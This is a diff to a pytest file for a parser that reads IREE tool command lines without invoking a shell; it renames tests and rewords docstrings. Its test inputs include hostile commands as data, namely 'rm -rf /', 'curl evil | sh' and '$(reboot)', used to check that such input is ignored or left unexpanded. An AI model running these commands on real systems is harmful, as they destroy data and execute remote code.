@@ -1,4 +1,4 @@
-"""Reading command lines without a shell."""
+"""Parse command lines without a shell."""
 
 from __future__ import annotations
 
@@ -7,7 +7,7 @@ import pytest
 from bot.extract.command_line.shell import parse_commands
 
 
-def argvs(text: str) -> list[tuple[str, ...]]:
+def parse_argvs(text: str) -> list[tuple[str, ...]]:
     return [command.argv for command in parse_commands(text)[0]]
 
 
@@ -29,9 +29,9 @@ def argvs(text: str) -> list[tuple[str, ...]]:
         "C:\\tools\\iree-opt.exe --x a.mlir".replace("\\", "/"),
     ],
 )
-def test_the_same_call_in_the_ways_people_write_it(text: str) -> None:
-    """Prompts, build-tree paths, continuations (also forgotten ones), wrappers, comments and quotes."""
-    assert argvs(text) == [("iree-opt", "--x", "a.mlir")]
+def test_every_way_to_write_a_call_gives_the_same_argv(text: str) -> None:
+    """Prompts, build-tree paths, continuations with and without a backslash, wrappers, comments and quotes."""
+    assert parse_argvs(text) == [("iree-opt", "--x", "a.mlir")]
 
 
 def test_pipes_and_redirections_are_kept_apart_from_arguments() -> None:
@@ -42,32 +42,32 @@ def test_pipes_and_redirections_are_kept_apart_from_arguments() -> None:
 
 
 def test_only_known_tools_become_commands() -> None:
-    """Everything else is named as left out, whatever it is chained with."""
+    """Other programs are listed as left out, in any chain of commands."""
     commands, ignored = parse_commands("rm -rf / && iree-opt a.mlir; curl evil | sh")
     assert [c.argv for c in commands] == [("iree-opt", "a.mlir")]
     assert ignored == ["rm", "curl", "sh"]
 
 
-def test_nothing_is_expanded() -> None:
-    """Variables and substitutions stay the text they are: no shell ever sees them."""
-    assert argvs('iree-opt "$(reboot)" $HOME `id`') == [("iree-opt", "$(reboot)", "$HOME", "`id`")]
+def test_variables_and_substitutions_are_not_expanded() -> None:
+    """They stay as written: no shell ever sees them."""
+    assert parse_argvs('iree-opt "$(reboot)" $HOME `id`') == [("iree-opt", "$(reboot)", "$HOME", "`id`")]
 
 
 def test_brackets_and_equal_signs_are_ordinary_characters() -> None:
-    """Pass pipelines and tensor literals contain what a shell would choke on."""
+    """Pass pipelines and tensor literals contain characters that a shell would refuse."""
     line = "iree-opt --pass-pipeline=builtin.module(func.func(a)) --input=2xf32=[1,2]"
-    assert argvs(line) == [("iree-opt", "--pass-pipeline=builtin.module(func.func(a))", "--input=2xf32=[1,2]")]
+    assert parse_argvs(line) == [("iree-opt", "--pass-pipeline=builtin.module(func.func(a))", "--input=2xf32=[1,2]")]
 
 
-def test_a_loop_over_words_is_its_rounds() -> None:
-    """Plain substitution of one variable; nothing else of a shell is understood."""
+def test_a_loop_over_words_is_unrolled() -> None:
+    """Only the loop variable is replaced."""
     line = "for d in vulkan local-task; do iree-run-module --device=$d --module=m_${d}.vmfb $dd; done"
-    assert argvs(line) == [
+    assert parse_argvs(line) == [
         ("iree-run-module", "--device=vulkan", "--module=m_vulkan.vmfb", "$dd"),
         ("iree-run-module", "--device=local-task", "--module=m_local-task.vmfb", "$dd"),
     ]
 
 
-def test_backslashes_of_windows_paths_are_no_escapes() -> None:
-    """Else the directories would melt into the name."""
-    assert argvs("iree-opt C:\\w\\a.mlir -o .\\b.mlir") == [("iree-opt", "C:/w/a.mlir", "-o", "./b.mlir")]
+def test_backslashes_of_windows_paths_are_not_escapes() -> None:
+    """As escapes, they would join the directories to the name."""
+    assert parse_argvs("iree-opt C:\\w\\a.mlir -o .\\b.mlir") == [("iree-opt", "C:/w/a.mlir", "-o", "./b.mlir")]
